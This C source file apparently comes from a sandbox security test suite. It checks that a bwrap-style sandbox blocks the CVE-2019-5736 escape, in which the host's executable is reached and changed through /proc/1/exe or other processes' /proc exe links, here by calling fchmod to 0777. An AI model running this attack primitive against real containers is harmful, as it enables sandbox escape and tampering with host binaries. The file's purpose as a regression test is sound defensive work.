/* SPDX-License-Identifier: Apache-2.0 */
/*
 * wall: PID 1 is not dumpable: no way to the host's executable
 * wall script: no process that runs the host's executable can be looked into
 * cve: CVE-2019-5736, CVE-2019-12499, CVE-2019-8308
 * off: {bwrap} --unshare-all --dev-bind / / --proc /proc
 * behind script: --allow-userns
 * as: user root
 * as script: root
 * cases: init script
 * setup: executable
 * refusal: 125
 *
 * The sandbox's own executable lies on the host and is the user's. A running
 * one cannot be written (ETXTBSY), but what is open by way of /proc can be
 * given other permissions, and be written when nobody runs it any more.
 *
 * init: /proc/1/exe. script: the command is
 * a script that names /proc/self/exe as its interpreter, with options of ours,
 * and so runs the executable inside as a process that can be looked into.
 */
#include "attack.h"
#include <dirent.h>

/* An executable that is the user's but not below the working directory. */
static int spoil(const char *path)
{
	int fd = open(path, O_RDONLY);

	if (fd < 0)
		return 0;
	if (fchmod(fd, 0777))
		return 0;
	return 1;
}

int main(int argc, char **argv)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char path[64];
	int error = ENOENT;

	if (argc < 2 || !proc)
		broken("arguments");
	if (is(argv[1], "init")) {
		if (!spoil("/proc/1/exe"))
			refused("/proc/1/exe");
		done("/proc/1/exe has other permissions");
	}
	while ((entry = readdir(proc))) {
		if (!strtol(entry->d_name, NULL, 10) ||
		    strtol(entry->d_name, NULL, 10) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%.16s/exe", entry->d_name);
		if (spoil(path))
			printf("%s ", path);
		else
			error = errno;
	}
	errno = error;
	done("all tried (%s)", error_name(error));
}
